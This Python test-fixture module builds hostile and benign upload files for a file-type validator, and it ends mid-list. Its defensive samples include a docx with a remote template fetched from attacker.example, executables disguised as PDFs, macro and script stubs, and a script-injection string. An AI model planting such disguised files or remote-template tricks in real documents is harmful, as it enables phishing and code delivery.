"""Files for testing ``claims.filetypes``, all made in code: a HOSTILE corpus (each trick an
outside pen-test found, and their relatives) and a BENIGN one (what real partners upload).

Each entry is ``(id, file name, build, expected)``: ``build()`` returns the bytes; ``expected``
is, for a hostile file, a substring of the reason it must be refused with, and for a benign
one the kind it must be accepted as.

Compound files (Outlook .msg, older Office, MSI) are written by ``cfb``, a minimal writer of
the Compound File Binary format (version 3, 512-byte sectors, a mini stream for small
streams, sorted balanced directory trees): enough for olefile, and laid out as Office does.
"""

import io
import random
import struct
import uuid
import zipfile
import zlib
from email.message import EmailMessage
from email.policy import SMTP

from pypdf import PdfReader, PdfWriter

# --- small images -----------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_bytes() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr) + _png_chunk(b"IDAT", idat) + _png_chunk(b"IEND", b"")


def jpeg_bytes() -> bytes:
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    sof = b"\xff\xc0" + struct.pack(">H", 11) + b"\x08\x00\x01\x00\x01\x01\x01\x11\x00"
    dht = b"\xff\xc4" + struct.pack(">H", 20) + b"\x00" + b"\x01" + b"\x00" * 15 + b"\x00"
    sos = b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\x00\x00\x3f\x00"
    scan = b"\x12\x34\xff\x00\x56\xff\xd0\x78"  # a stuffed byte and a restart marker
    return b"\xff\xd8" + app0 + dqt + sof + dht + sos + scan + b"\xff\xd9"


# --- PDF ------------------------------------------------------------------------------------------------


def pdf_stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def pdf_file(objects: list[bytes], *, header: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", trailer: bytes = b"") -> bytes:
    """A PDF with a correct xref table: ``objects[0]`` is object 1 (the catalog)."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, xref)
    return bytes(out)


def pdf_doc(
    *, catalog: bytes = b"", page: bytes = b"", extra: list[bytes] = (), text: bytes = b"Signed acknowledgement"
) -> bytes:
    """One page of text; ``extra`` objects are numbered from 6 on."""
    content = b"BT /F1 18 Tf 72 720 Td (" + text + b") Tj ET"
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R " + catalog + b">>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> " + page + b">>",
            pdf_stream(content),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
            *extra,
        ]
    )


def pdf_bytes() -> bytes:
    """The smallest well-formed PDF: one blank page (other suites need it under 500 bytes)."""
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ],
        header=b"%PDF-1.4\n",
    )


def pdf_multipage() -> bytes:
    writer = PdfWriter()
    for _page in range(3):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Title": "Workshop minutes", "/Author": "Per Partner"})
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_signed() -> bytes:
    """Structurally a signed PDF: a /Sig field whose value has /ByteRange around /Contents."""
    contents = b"<" + b"0" * 8192 + b">"
    signature = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached "
        b"/ByteRange [0 AAAAAAAAAA BBBBBBBBBB CCCCCCCCCC] /Contents " + contents + b" "
        b"/M (D:20261102100000+01'00') /Name (Per Partner) /Reason (Acknowledged) >>"
    )
    data = pdf_doc(
        catalog=b"/AcroForm << /Fields [6 0 R] /SigFlags 3 >> ",
        page=b"/Annots [6 0 R] ",
        extra=[
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 7 0 R /P 3 0 R /Rect [0 0 0 0] /F 132 >>",
            signature,
        ],
    )
    start = data.index(contents)
    end = start + len(contents)
    for placeholder, value in ((b"AAAAAAAAAA", start), (b"BBBBBBBBBB", end), (b"CCCCCCCCCC", len(data) - end)):
        data = data.replace(placeholder, b"%-10d" % value)
    return data


def pdf_scanned(image: bytes | None = None) -> bytes:
    """An image-only page, as a scanner writes it."""
    image = image or jpeg_bytes()
    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /XObject << /Im0 5 0 R >> >> >>",
            pdf_stream(b"q 595 0 0 842 0 0 cm /Im0 Do Q"),
            pdf_stream(
                image,
                b"/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceRGB /BitsPerComponent 8 "
                b"/Filter /DCTDecode ",
            ),
        ]
    )


def pdf_with_link() -> bytes:
    """An ordinary hyperlink: a /URI action on a link annotation is fine."""
    return pdf_doc(
        page=b"/Annots [6 0 R] ",
        extra=[
            b"<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] "
            b"/A << /S /URI /URI (https://contoso.example/report) >> >>"
        ],
    )


def pdf_incremental() -> bytes:
    """A PDF saved twice (an incremental update: two %%EOF) and a comment after the last one."""
    first = pdf_doc()
    xref_at = first.rindex(b"startxref")
    prev = int(first[xref_at + 10 :].split()[0])
    update_at = len(first)
    update = b"7 0 obj\n<< /Producer (Acrobat) >>\nendobj\n"
    new_xref = update_at + len(update)
    update += b"xref\n7 1\n%010d 00000 n \n" % update_at
    update += b"trailer\n<< /Size 8 /Root 1 0 R /Info 7 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, new_xref)
    return first + update + b"%second\n"


def pdf_encrypted(user_password: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.encrypt(user_password=user_password, owner_password="owner-secret", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_encrypted_aes_owner_only() -> bytes:
    """Opens without a password (the R4 password check is RC4 and MD5), but its strings are
    AES-encrypted: what pypdf cannot decrypt without the optional ``cryptography`` package."""
    reader = PdfReader(io.BytesIO(pdf_encrypted("")))
    encrypt = reader.trailer["/Encrypt"].get_object()
    first_id = reader.trailer["/ID"][0].original_bytes

    def hex_string(value) -> bytes:
        return b"<" + bytes(value.original_bytes).hex().encode() + b">"

    return pdf_file(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
            b"<< /Title <00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff> >>",
            b"<< /Filter /Standard /V 4 /R 4 /Length 128 /P %d /O %s /U %s "
            % (encrypt["/P"], hex_string(encrypt["/O"]), hex_string(encrypt["/U"]))
            + b"/CF << /StdCF << /CFM /AESV2 /AuthEvent /DocOpen /Length 16 >> >> /StmF /StdCF /StrF /StdCF >>",
        ],
        trailer=b"/Info 4 0 R /Encrypt 5 0 R /ID [<%s> <%s>] " % (first_id.hex().encode(), first_id.hex().encode()),
    )


def _pdf_with_annotation(annotation: bytes) -> bytes:
    return pdf_doc(page=b"/Annots [6 0 R] ", extra=[annotation])


# --- Office Open XML -------------------------------------------------------------------------------------

_OOXML_MAIN = {
    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
}
_MACRO_MAIN = {
    "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
    "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
}


def office_bytes(kind="docx", *, extra=None, main_type=None, overrides="") -> bytes:
    part, content_type = _OOXML_MAIN[kind]
    content_type = main_type or content_type
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/{part}" ContentType="{content_type}"/>{overrides}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            f'officeDocument" Target="{part}"/></Relationships>',
        )
        archive.writestr(part, "<document>Signed acknowledgement</document>")
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def office_macro(kind: str) -> bytes:
    return office_bytes(
        kind, extra={f"{_OOXML_MAIN[kind][0].split('/')[0]}/vbaProject.bin": b"VBA"}, main_type=_MACRO_MAIN[kind]
    )


def docx_with_chart() -> bytes:
    """A Word file with an image and an embedded Excel workbook (how a chart is stored)."""
    return office_bytes(
        "docx",
        extra={
            "word/media/image1.png": png_bytes(),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": office_bytes("xlsx"),
            "word/_rels/document.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId5" Type="http://schemas.'
            'openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://contoso.example/" '
            'TargetMode="External"/></Relationships>',
        },
    )


def docx_remote_template() -> bytes:
    rels = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1337" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'attachedTemplate" Target="https://attacker.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    return office_bytes("docx", extra={"word/_rels/settings.xml.rels": rels, "word/settings.xml": "<settings/>"})


# --- compound files (CFB) -----------------------------------------------------------------------------------

_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
_SECTOR, _MINI, _CUTOFF = 512, 64, 4096


def _cfb_sort_key(name: str):
    return (len(name), name.upper())


def cfb(tree: dict, *, root_clsid: str = "") -> bytes:
    """A compound file from ``tree``: {name: bytes (a stream) | dict (a storage)}."""
    entries = [{"name": "Root Entry", "type": 5, "clsid": root_clsid, "children": tree}]

    def add(storage_index: int):
        children = entries[storage_index]["children"]
        indices = []
        for name in sorted(children, key=_cfb_sort_key):
            value = children[name]
            entry = {"name": name, "type": 1 if isinstance(value, dict) else 2, "clsid": ""}
            if isinstance(value, dict):
                entry["children"] = value
            else:
                entry["data"] = bytes(value)
            entries.append(entry)
            indices.append(len(entries) - 1)
        entries[storage_index]["child"] = _balanced(indices, entries)
        for index in indices:
            if entries[index]["type"] == 1:
                add(index)

    add(0)
    # small streams go to the mini stream, the rest to ordinary sectors
    mini, minifat = bytearray(), []
    big = []
    for entry in entries:
        data = entry.get("data")
        if data is None:
            continue
        if not data:
            entry["start"] = _END
        elif len(data) < _CUTOFF:
            first = len(mini) // _MINI
            count = -(-len(data) // _MINI)
            minifat += [first + i + 1 for i in range(count - 1)] + [_END]
            mini += data + b"\x00" * (count * _MINI - len(data))
            entry["start"] = first
        else:
            big.append(entry)
    dir_sectors = -(-len(entries) * 128 // _SECTOR)
    minifat_sectors = -(-len(minifat) * 4 // _SECTOR)
    mini_sectors = -(-len(mini) // _SECTOR)
    big_sectors = [-(-len(e["data"]) // _SECTOR) for e in big]
    others = dir_sectors + minifat_sectors + mini_sectors + sum(big_sectors)
    fat_sectors = 1
    while fat_sectors * _SECTOR // 4 < fat_sectors + others:
        fat_sectors += 1
    if fat_sectors > 109:
        raise ValueError("too large for a compound file without DIFAT sectors")
    fat = [_FATSECT] * fat_sectors
    body = bytearray()

    def place(data: bytes, sectors: int) -> int:
        if not sectors:
            return _END
        first = len(fat)
        fat.extend(first + i + 1 for i in range(sectors - 1))
        fat.append(_END)
        body.extend(data + b"\x00" * (sectors * _SECTOR - len(data)))
        return first

    dir_at = len(fat)
    fat.extend(dir_at + i + 1 for i in range(dir_sectors - 1))
    fat.append(_END)
    minifat_at = place(b"".join(struct.pack("<I", n) for n in minifat), minifat_sectors)
    mini_at = place(bytes(mini), mini_sectors)
    for entry, sectors in zip(big, big_sectors, strict=True):
        entry["start"] = place(entry["data"], sectors)
    entries[0]["start"], entries[0]["size"] = mini_at, len(mini)
    directory = b"".join(_cfb_entry(entry) for entry in entries)
    directory += _cfb_entry(None) * (dir_sectors * 4 - len(entries))
    fat += [_FREE] * (fat_sectors * _SECTOR // 4 - len(fat))
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"\x00" * 16,
        0x003E,
        0x0003,
        0xFFFE,
        9,
        6,
        b"\x00" * 6,
        0,
        fat_sectors,
        dir_at,
        0,
        _CUTOFF,
        minifat_at if minifat_sectors else _END,
        minifat_sectors,
        _END,
        0,
    )
    header += b"".join(struct.pack("<I", i) for i in range(fat_sectors)) + b"\xff\xff\xff\xff" * (109 - fat_sectors)
    fat_bytes = b"".join(struct.pack("<I", n) for n in fat)
    return header + fat_bytes + directory + bytes(body)


def _balanced(indices: list[int], entries: list[dict]) -> int:
    """The root of a balanced binary tree over ``indices`` (already in directory order)."""
    if not indices:
        return _NOSTREAM
    middle = len(indices) // 2
    root = indices[middle]
    entries[root]["left"] = _balanced(indices[:middle], entries)
    entries[root]["right"] = _balanced(indices[middle + 1 :], entries)
    return root


def _cfb_entry(entry: dict | None) -> bytes:
    if entry is None:
        return b"\x00" * 64 + struct.pack(
            "<HBBIII16sIQQIQ", 0, 0, 0, _NOSTREAM, _NOSTREAM, _NOSTREAM, b"\x00" * 16, 0, 0, 0, 0, 0
        )
    name = entry["name"].encode("utf-16-le") + b"\x00\x00"
    clsid = uuid.UUID(entry["clsid"]).bytes_le if entry.get("clsid") else b"\x00" * 16
    size = entry.get("size", len(entry.get("data", b"")))
    start = entry.get("start", 0)
    return name.ljust(64, b"\x00") + struct.pack(
        "<HBBIII16sIQQIQ",
        len(name),
        entry["type"],
        1,
        entry.get("left", _NOSTREAM),
        entry.get("right", _NOSTREAM),
        entry.get("child", _NOSTREAM),
        clsid,
        0,
        0,
        0,
        start,
        size,
    )


# --- Outlook .msg ------------------------------------------------------------------------------------------

_MSG_CLSID = "00020D0B-0000-0000-C000-000000000046"


def _props(header: bytes, tags: list[tuple[int, int]]) -> bytes:
    """A property stream: ``header`` then 16-byte entries (tag, flags, 8-byte value)."""
    return header + b"".join(struct.pack("<IIq", tag, 6, value) for tag, value in tags)


def _unicode(text: str) -> bytes:
    return text.encode("utf-16-le")


def _message_streams(subject: str, body: str, html: str | None, message_class: str) -> dict:
    streams = {
        "__substg1.0_001A001F": _unicode(message_class),
        "__substg1.0_0037001F": _unicode(subject),
        "__substg1.0_0C1A001F": _unicode("Ada Customer"),
        "__substg1.0_0C1F001F": _unicode("ada@customer.example"),
        "__substg1.0_0E04001F": _unicode("Per Partner"),
        "__substg1.0_1000001F": _unicode(body),
    }
    if html is not None:
        streams["__substg1.0_10130102"] = html.encode("utf-8")
    return streams


def msg_attachment(name: str, data: bytes, *, mime: str = "application/pdf", method: int = 1) -> dict:
    storage = {
        "__properties_version1.0": _props(b"\x00" * 8, [(0x37050003, method), (0x0E210003, 0)]),
        "__substg1.0_3707001F": _unicode(name),
        "__substg1.0_3704001F": _unicode(name[:12]),
        "__substg1.0_3703001F": _unicode("." + name.rpartition(".")[2]),
        "__substg1.0_370E001F": _unicode(mime),
    }
    if data is not None:
        storage["__substg1.0_37010102"] = data
    return storage


def msg_embedded_message() -> dict:
    inner = {"__properties_version1.0": _props(b"\x00" * 24, [])}
    inner.update(_message_streams("Fwd: order", "Forwarded.", None, "IPM.Note"))
    storage = msg_attachment("Fwd order.msg", None, mime="application/vnd.ms-outlook", method=5)
    storage["__substg1.0_3701000D"] = inner
    return storage


def msg_bytes(
    *,
    subject: str = "Tack för workshopen",
    body: str = "Hej Per,\r\n\r\nVi bekräftar att Contoso körde piloten. Se bifogat protokoll.\r\n\r\nAda\r\n",
    html: str | None = None,
    attachments: list[dict] = (),
    message_class: str = "IPM.Note",
    extra: dict | None = None,
    properties: bool = True,
) -> bytes:
    """An Outlook message as Outlook saves it: message properties, a recipient, named
    properties and attachment storages."""
    header = struct.pack("<8sIIII8s", b"\x00" * 8, 1, len(attachments), 1, len(attachments), b"\x00" * 8)
    tree = {
        "__nameid_version1.0": {
            "__substg1.0_00020102": b"",
            "__substg1.0_00030102": b"",
            "__substg1.0_00040102": b"",
        },
        "__recip_version1.0_#00000000": {
            "__properties_version1.0": _props(b"\x00" * 8, [(0x0C150003, 1)]),
            "__substg1.0_3001001F": _unicode("Per Partner"),
            "__substg1.0_39FE001F": _unicode("per@partner.example"),
        },
    }
    if properties:
        tree["__properties_version1.0"] = _props(header, [(0x0E070003, 1), (0x3FDE0003, 65001)])
    tree.update(_message_streams(subject, body, html, message_class))
    for number, storage in enumerate(attachments):
        tree[f"__attach_version1.0_#{number:08X}"] = storage
    tree.update(extra or {})
    return cfb(tree, root_clsid=_MSG_CLSID)


OUTLOOK_HTML = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]-->
<style><!--
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
a:link, span.MsoHyperlink {mso-style-priority:99; color:#0563C1; text-decoration:underline;}
--></style><!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]-->
</head>
<body lang="SV" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">
<div class="WordSection1">
<p class="MsoNormal">Hej Per,<o:p></o:p></p>
<p class="MsoNormal">Vi bekräftar att Contoso körde piloten den 2 november. Protokollet finns
<a href="https://contoso.example/protokoll?id=42&amp;lang=sv">här</a> och bifogat.<o:p></o:p></p>
<p class="MsoNormal"><img width="120" height="40" style="width:1.25in;height:.4166in"
id="Bild_x0020_1" src="cid:image001.png@01DA0D3E.5B8F2A10" alt="Contoso"><o:p></o:p></p>
<p class="MsoNormal">Med vänliga hälsningar,<br>Ada Customer<o:p></o:p></p>
</div></body></html>
"""


# --- e-mail (.eml) -----------------------------------------------------------------------------------------


def _mail(subject: str = "Tack för workshopen") -> EmailMessage:
    message = EmailMessage()
    message["From"] = "Ada Customer <ada@customer.example>"
    message["To"] = "Per Partner <per@partner.example>"
    message["Subject"] = subject
    message["Date"] = "Mon, 2 Nov 2026 10:00:00 +0100"
    message["Message-ID"] = "<1@customer.example>"
    return message


def eml_plain() -> bytes:
    message = _mail()
    message.set_content("Hej Per,\n\nVi bekräftar att Contoso körde Dynamics 365-piloten.\n\nAda\n")
    return message.as_bytes(policy=SMTP)


def eml_bytes() -> bytes:
    return (
        b"From: Ada Customer <ada@customer.example>\r\nTo: per@partner.example\r\n"
        b"Subject: Thanks for the workshop\r\nDate: Mon, 2 Nov 2026 10:00:00 +0100\r\n"
        b"Message-ID: <1@customer.example>\r\n\r\nWe confirm Contoso ran the Dynamics 365 pilot.\r\n"
    )


def eml_outlook(*, html: str = OUTLOOK_HTML, attachments=None) -> bytes:
    """How Outlook sends it: mixed { alternative { plain, related { html, inline image } }, PDF }."""
    message = _mail()
    message.set_content(
        "Hej Per,\n\nVi bekräftar att Contoso körde piloten den 2 november. Protokollet finns här "
        "<https://contoso.example/protokoll?id=42&lang=sv> och bifogat.\n\n[cid:image001.png@01DA0D3E.5B8F2A10]\n\n"
        "Med vänliga hälsningar,\nAda Customer\n"
    )
    message.add_alternative(html, subtype="html")
    html_part = message.get_payload()[1]
    html_part.add_related(png_bytes(), "image", "png", cid="<image001.png@01DA0D3E.5B8F2A10>", filename="image001.png")
    for name, data, maintype, subtype in (
        attachments if attachments is not None else [("Protokoll.pdf", pdf_bytes(), "application", "pdf")]
    ):
        message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes(policy=SMTP)


def eml_with_attachment(name: str, data: bytes, maintype="application", subtype="octet-stream") -> bytes:
    message = _mail()
    message.set_content("Hej Per,\n\nSe bifogad fil.\n\nAda\n")
    message.add_attachment(data, maintype=maintype, subtype=subtype, filename=name)
    return message.as_bytes(policy=SMTP)


def eml_html_only() -> bytes:
    message = _mail()
    message.set_content(OUTLOOK_HTML, subtype="html")
    return message.as_bytes(policy=SMTP)


def eml_alternative(html: str) -> bytes:
    message = _mail()
    message.set_content("Hej Per,\n\nSe nedan.\n")
    message.add_alternative(html, subtype="html")
    return message.as_bytes(policy=SMTP)


def eml_nested() -> bytes:
    message = _mail()
    message.set_content("Vidarebefordrat meddelande bifogat.\n")
    inner = _mail("Fwd: order")
    inner.set_content("The original.\n")
    message.add_attachment(inner)
    return message.as_bytes(policy=SMTP)


def eml_signed() -> bytes:
    """An S/MIME-signed e-mail: multipart/signed { text, smime.p7s }."""
    boundary = "----=_signed_boundary"
    body = (
        f'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; '
        f'boundary="{boundary}"\r\n\r\n'
        f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "Hej Per, vi bekräftar workshopen.\r\n\r\n"
        f"--{boundary}\r\nContent-Type: application/pkcs7-signature; name=smime.p7s\r\n"
        "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=smime.p7s\r\n\r\n"
        "MIAGCSqGSIb3DQEHAqCAMIACAQExDzANBglghkgBZQMEAgEFADCABgkqhkiG9w0BBwEAAA==\r\n\r\n"
        f"--{boundary}--\r\n"
    )
    head = (
        "From: Ada Customer <ada@customer.example>\r\nTo: per@partner.example\r\nSubject: Bekräftelse\r\n"
        "Date: Mon, 2 Nov 2026 10:00:00 +0100\r\nMessage-ID: <2@customer.example>\r\nMIME-Version: 1.0\r\n"
    )
    return (head + body).encode()


def eml_encrypted() -> bytes:
    head = (
        "From: Ada Customer <ada@customer.example>\r\nTo: per@partner.example\r\nSubject: Secret\r\n"
        "Date: Mon, 2 Nov 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        'Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"\r\n'
        "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHA6CAMIACAQAxggE=\r\n"
    )
    return head.encode()


# --- text ----------------------------------------------------------------------------------------------------

SWEDISH_NOTES = (
    "Anteckningar från workshopen i Göteborg, 2 november\n"
    "Deltagare: Åsa Öberg (Contoso), Per Ärlig (partner)\n\n"
    "Vi gick igenom Dynamics 365-piloten. Kunden är nöjd och vill gå vidare.\n"
)
BULLET_NOTES = (
    "Att göra efter mötet:\n"
    "- skicka protokollet till kunden\n"
    "- boka uppföljning (vecka 46), gärna på förmiddagen\n"
    "-ring Åsa om licenserna\n"
    "+ bonus: kunden vill ha en demo\n"
    "Temperaturen var -5 grader, +3 i går.\n"
    "Budget: -12 000 kr; +4 500 kr i rabatt\n"
    "Kontakt: Åsa Öberg, +46 (0)70-123 45 67, asa@contoso.example\n"
    "@Per: kan du ta demon?\n"
    "=> kunden godkände\n"
    "==== Nästa steg ====\n"
    "-- \nPer Ärlig\n"
)
PLAIN_CSV = "datum;timmar;belopp\n2026-11-02;3;-1200\n2026-11-03;2,5;+800\n"


def text_with_markup_at(offset: int, tag: bytes = b"<script>alert(1)</script>") -> bytes:
    line = "Anteckning om piloten, inget konstigt här.\n".encode()
    filler = (line * (offset // len(line) + 1))[:offset]
    return filler + tag + b"\n" + line


# --- the corpora -----------------------------------------------------------------------------------------------


def _ole_doc(macros: bool) -> bytes:
    tree = {
        "WordDocument": b"\xec\xa5\xc1\x00" + b"\x00" * 1500,
        "1Table": b"\x00" * 600,
        "\x05SummaryInformation": b"\xfe\xff" + b"\x00" * 200,
    }
    if macros:
        tree["Macros"] = {
            "VBA": {"_VBA_PROJECT": b"\xcc\x61" + b"\x00" * 5, "dir": b"\x01" * 80, "ThisDocument": b"Attribute"},
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisDocument/&H00000000\r\n',
        }
    return cfb(tree, root_clsid="00020906-0000-0000-C000-000000000046")


def _ole_xls(macros: bool) -> bytes:
    tree = {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + b"\x00" * 5000}  # BIFF8 BOF, in ordinary sectors
    if macros:
        tree["_VBA_PROJECT_CUR"] = {
            "VBA": {"_VBA_PROJECT": b"\xcc\x61", "Module1": b"Sub AutoOpen()"},
            "PROJECT": b"ID",
        }
    return cfb(tree, root_clsid="00020820-0000-0000-C000-000000000046")


def _ole_ppt(macros: bool) -> bytes:
    tree = {"PowerPoint Document": b"\x0f\x00\xe8\x03" + b"\x00" * 300, "Current User": b"\x00" * 40}
    if macros:
        tree["VBA"] = {"_VBA_PROJECT": b"\xcc\x61", "Module1": b"Sub Auto_Open()"}
    return cfb(tree, root_clsid="64818D10-4F9B-11CF-86EA-00AA00B929E8")


def _ole_package() -> bytes:
    """An embedded OLE "Package" object wrapping a program, as a docx embeds it."""
    native = struct.pack("<I", 0) + b"\x02\x00setup.exe\x00C:\\setup.exe\x00" + b"MZ\x90\x00"
    return cfb({"\x01Ole10Native": native, "\x01CompObj": b"\x01\x00\xfe\xff"})


_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 44 + b"\x80\x00\x00\x00" + b"\x00" * 64
_EXE += b"PE\x00\x00L\x01" + b"\x00" * 200
_ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
_ZIP = None


def _plain_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", "hello")
    return buffer.getvalue()


def _iso() -> bytes:
    return b"\x00" * 0x8001 + b"CD001\x01" + b"\x00" * 2048


def _big_random(size: int) -> bytes:
    return random.Random(7).randbytes(size)


HOSTILE = [
    # --- e-mail
    ("eml-html-only", "mail.eml", eml_html_only, "only in web page (HTML)"),
    (
        "eml-html-attachment",
        "mail.eml",
        lambda: eml_with_attachment("page.html", b"<html>hi</html>", "text", "html"),
        "“page.html” that is a web page",
    ),
    ("eml-exe-attachment", "mail.eml", lambda: eml_with_attachment("setup.exe", _EXE), "“setup.exe” that is a program"),
    (
        "eml-exe-as-pdf",
        "mail.eml",
        lambda: eml_with_attachment("report.pdf", _EXE, "application", "pdf"),
        "“report.pdf” that is a program",
    ),
    (
        "eml-docm-attachment",
        "mail.eml",
        lambda: eml_with_attachment("ack.docm", office_macro("docx")),
        "“ack.docm” that contains macros",
    ),
    (
        "eml-docm-as-docx",
        "mail.eml",
        lambda: eml_with_attachment("ack.docx", office_macro("docx")),
        "“ack.docx” that contains macros",
    ),
    (
        "eml-js-attachment",
        "mail.eml",
        lambda: eml_with_attachment("invoice.js", b"WScript.Shell.Run('calc')"),
        "“invoice.js” that is a script",
    ),
    (
        "eml-zip-attachment",
        "mail.eml",
        lambda: eml_with_attachment("files.zip", _plain_zip()),
        "“files.zip” that is a compressed archive",
    ),
    ("eml-nested-rfc822", "mail.eml", eml_nested, "that is itself an e-mail"),
    (
        "eml-nested-as-file",
        "mail.eml",
        lambda: eml_with_attachment("fwd.eml", eml_plain()),
        "“fwd.eml” that is itself an e-mail",
    ),
    (
        "eml-nested-renamed",
        "mail.eml",
        lambda: eml_with_attachment("notes.txt", eml_plain(), "text", "plain"),
        "“notes.txt” that is itself an e-mail",
    ),
    (
        "eml-html-disguised",
        "mail.eml",
        lambda: eml_with_attachment("invoice.pdf", b"<!DOCTYPE html><script>x</script>"),
        "“invoice.pdf” that is a web page",
    ),
    (
        "eml-name-mismatch",
        "mail.eml",
        lambda: eml_with_attachment("photo.png", pdf_bytes()),
